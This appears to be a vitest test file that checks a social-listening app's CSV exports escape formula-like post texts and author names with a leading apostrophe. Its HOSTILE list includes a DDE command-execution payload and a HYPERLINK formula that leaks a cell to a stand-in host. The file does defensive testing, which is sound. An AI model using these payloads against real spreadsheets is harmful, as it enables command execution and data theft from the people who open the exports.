import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ingestPosts } from '../../src/ingest/pipeline';
import { createTestContext, type TestContext } from '../helpers/test-app';
import { socialAuthor, socialPost } from '../helpers/posts';

/**
 * Post texts and author names are anyone's words. Every CSV the app writes (labelled sentiment data,
 * contacts, reports) goes through one writer that keeps a spreadsheet from running them as formulas.
 */
let t: TestContext;
let token: string;

const HOSTILE = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test/?leak="&A1,"click")',
  '+SUM(1+1)',
  '@SUM(A1)',
  '-2+3',
  '\t=1+1',
];
const csvOf = async (path: string) => {
  const res = await t.request('GET', path, { token });
  expect(res.status).toBe(200);
  return parse(res.text, { columns: true, relax_column_count: true }) as Record<string, string>[];
};

beforeAll(async () => {
  t = await createTestContext();
  const ws = await t.seedWorkspace('Formulas');
  token = ws.token;
  const now = t.deps.clock();
  await ingestPosts(
    t.deps,
    { workspaceId: ws.workspace.id, sourceId: null, platform: 'x', topics: [] },
    HOSTILE.map((text, i) =>
      socialPost({
        externalId: `f${i}`,
        text,
        createdAt: now,
        author: socialAuthor({ externalId: `a${i}`, handle: `h${i}`, name: text }),
      }),
    ),
  );
  const mentions = (await t.request('GET', '/api/v1/mentions?limit=50', { token })).json.items as { id: string }[];
  for (const m of mentions)
    expect(
      (await t.request('PATCH', `/api/v1/mentions/${m.id}/sentiment`, { token, body: { label: 'negative' } })).status,
    ).toBe(200);
});
afterAll(() => t.close());

const guarded = (cells: string[]) => cells.filter((c) => !c.startsWith("'"));

describe('CSV exports and formula cells', () => {
  it('labels.csv writes hostile post texts with a leading apostrophe', async () => {
    const rows = await csvOf('/api/v1/mentions/labels.csv');
    expect(rows.map((r) => r.text).sort()).toEqual(HOSTILE.map((h) => `'${h}`).sort());
    // Numbers stay numbers: a negative model score is no formula.
    expect(rows.every((r) => r.label === 'negative' && !r.model_score!.startsWith("'"))).toBe(true);
  });

  it('the contacts export guards the same cells', async () => {
    const rows = await csvOf('/api/v1/contacts/export');
    const names = rows.map((r) => r.name!).filter((n) => HOSTILE.some((h) => n.endsWith(h)));
    expect(names).toHaveLength(HOSTILE.length);
    expect(guarded(names)).toEqual([]);
  });

  it('report downloads guard the same cells', async () => {
    const rows = await csvOf('/api/v1/reports/authors?format=csv&limit=50');
    const names = rows.map((r) => r.name!);
    expect(names).toHaveLength(HOSTILE.length);
    expect(guarded(names)).toEqual([]);
  });
});
